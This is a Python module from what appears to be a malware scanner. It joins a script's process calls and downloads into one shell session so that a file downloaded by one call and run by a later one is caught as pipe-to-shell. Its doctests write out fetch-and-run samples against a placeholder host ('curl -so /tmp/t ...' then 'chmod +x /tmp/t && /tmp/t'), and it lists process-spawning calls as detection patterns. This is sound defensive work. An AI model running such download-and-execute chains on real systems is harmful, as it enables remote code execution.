"""The commands a Python script hands to processes, read in order as one shell session.

A download saved by one process call and run by a later one
(``subprocess.run(["curl", "-o", "/tmp/t", URL])``, then ``os.system("chmod +x /tmp/t &&
/tmp/t")``) does what ``curl URL | sh`` does, yet neither call shows both halves. Each
call with a constant command (a literal, a name bound once to a literal, or a list of
those joined by spaces) is put on its own line, so :func:`.fetched_runs.pipe_equivalents`
reads the session like a script. A download Python makes itself is written as the
``curl -o`` it equals: ``urlretrieve(URL, PATH)``, ``wget.download(URL, PATH)``, and a file
opened for binary writing after a request for a constant URL (the dropper that saves a
response's body and starts it).

>>> code = ('import os, subprocess\\n'
...         'subprocess.run(["curl", "-so", "/tmp/t", "https://x.invalid/t"])\\n'
...         'os.system("chmod +x /tmp/t && /tmp/t")\\n')
>>> process_session(code).splitlines()[1:]
['curl -so /tmp/t https://x.invalid/t', 'chmod +x /tmp/t && /tmp/t']
>>> code = ('import urllib.request, subprocess\\np = "/tmp/u.bin"\\n'
...         'urllib.request.urlretrieve("https://x.invalid/u", p)\\nsubprocess.Popen([p])\\n')
>>> process_session(code).splitlines()[2:]
['curl -o /tmp/u.bin https://x.invalid/u', '/tmp/u.bin']
>>> process_session("import os\\nos.system('ls')\\n")
''
"""

from __future__ import annotations

import ast
from dataclasses import replace

from .fetched_runs import pipe_equivalents
from .findings import ThreatFinding, line_at
from .flow.python_names import names_bound_once
from .normalise_python import parse_module
from .shell_js import SHELL_PATTERNS, scan_candidate_lines

_PIPE_TO_SHELL = tuple(p for p in SHELL_PATTERNS if p.name == "pipe-to-shell")

_PROCESS_CALLS = frozenset(
    {
        "os.system",
        "os.popen",
        "subprocess.run",
        "subprocess.call",
        "subprocess.check_call",
        "subprocess.check_output",
        "subprocess.Popen",
        "system",
        "popen",
        "run",
        "call",
        "check_call",
        "check_output",
        "Popen",
        "os.startfile",
        "startfile",
        "os.execv",
        "os.execl",
        "os.execvp",
        "os.execlp",
        "os.spawnv",
        "os.posix_spawn",
    }
)
"""Calls that start a process with their first argument as the command."""


def _constants(nodes: list[ast.AST]) -> tuple[dict[str, str], dict[str, str]]:
    """Names bound exactly once: those bound to a string literal, with its value; and, for
    paths, also those bound to anything else (a path built at run time), each with a
    placeholder path of its own, so that the file a download saves under that name and the
    file a later call runs by it are seen to be the same.

    >>> _constants(ast.parse("a = 'x'\\nb = f()\\nc = 1\\nc = 2").body)
    ({'a': 'x'}, {'a': 'x', 'b': '/b.computed-path'})
    """
    literals, paths = {}, {}
    for name, value in names_bound_once(nodes).items():
        if isinstance(value, ast.Constant):
            if isinstance(value.value, str):
                literals[name] = paths[name] = value.value
        elif value is not None:
            paths[name] = f"/{name}.computed-path"
    return literals, paths


def _word(arg: ast.expr, constants: dict[str, str]) -> str | None:
    if isinstance(arg, ast.Constant) and isinstance(arg.value, str):
        return arg.value
    if isinstance(arg, ast.Name):
        return constants.get(arg.id)
    return None


def _command(arg: ast.expr, constants: dict[str, str]) -> str | None:
    """The command a constant string or list of constant strings spells (None otherwise)."""
    if isinstance(arg, ast.List | ast.Tuple) and arg.elts:
        words = [_word(e, constants) for e in arg.elts]
        if all(w is not None for w in words):
            return " ".join(str(w) for w in words)
        return None
    return _word(arg, constants)


def _dotted(func: ast.expr) -> str:
    """``a.b.c`` for a call of a dotted name ('' for anything else)."""
    parts = []
    while isinstance(func, ast.Attribute):
        parts.append(func.attr)
        func = func.value
    if not isinstance(func, ast.Name):
        return ""
    return ".".join([func.id, *reversed(parts)])


_SAVES = frozenset(
    {"urlretrieve", "urllib.request.urlretrieve", "request.urlretrieve", "wget.download"}
)
_REQUESTS = frozenset(
    {"requests.get", "httpx.get", "urlopen", "request.urlopen", "urllib.request.urlopen"}
)
_SAVE_WINDOW = 20
"""Lines after a request in which a file opened for binary writing holds its body."""


def _download(
    node: ast.Call,
    name: str,
    constants: dict[str, str],
    paths: dict[str, str],
    last_request: tuple[int, str] | None,
) -> str | None:
    """The ``curl -o`` that a Python download call equals (None when it is not one)."""
    if name in _SAVES and len(node.args) >= 2:
        url, target = _word(node.args[0], constants), _word(node.args[1], paths)
    elif name == "open" and len(node.args) >= 2 and last_request is not None:
        mode = _word(node.args[1], constants) or ""
        if "b" not in mode or not ({"w", "a", "x"} & set(mode)):
            return None
        if node.lineno - last_request[0] > _SAVE_WINDOW:
            return None
        url, target = last_request[1], _word(node.args[0], paths)
    else:
        return None
    if not url or not target or not url.startswith(("http://", "https://")):
        return None
    return f"curl -o {target} {url}"


_DOWNLOAD_WORDS = ("curl", "wget", "urlretrieve", "requests.get", "httpx.get", "urlopen")


def process_session(text: str) -> str:
    """The constant commands of ``text``'s process calls and its downloads, each on its
    call's line (other lines blank); empty when fewer than two calls have one, or the text
    does not parse."""
    if not any(word in text for word in _DOWNLOAD_WORDS):
        return ""
    try:
        nodes = parse_module(text).nodes
    except (SyntaxError, ValueError, RecursionError, MemoryError):
        return ""
    constants, paths = _constants(nodes)
    commands: dict[int, str] = {}
    last_request: tuple[int, str] | None = None
    for node in sorted(
        (n for n in nodes if isinstance(n, ast.Call) and n.args), key=lambda n: n.lineno
    ):
        name = _dotted(node.func)
        if name in _REQUESTS and (url := _word(node.args[0], constants)):
            last_request = (node.lineno, url)
            continue
        if name in _PROCESS_CALLS:
            command = _command(node.args[0], paths)
        else:
            command = _download(node, name, constants, paths, last_request)
        if command and "\n" not in command:
            line = node.lineno
            commands[line] = f"{commands[line]} ; {command}" if line in commands else command
    if len(commands) < 2:
        return ""
    return "\n".join(commands.get(number, "") for number in range(1, max(commands) + 1))


def fetched_runs_across_calls(path: str, text: str) -> list[ThreatFinding]:
    """Pipe-to-shell findings, at the download's call, for a file one process call of the
    Python ``text`` downloads and a later one runs."""
    session = process_session(text)
    piped = pipe_equivalents(session) if session else ""
    if piped == session:
        return []
    lines = text.splitlines()
    return [
        replace(
            f,
            evidence=line_at(lines, f.line) or f.evidence,
            description=f"{f.description} (saved by one process call, run by a later one)",
        )
        for f in scan_candidate_lines(path, piped, _PIPE_TO_SHELL)
    ]
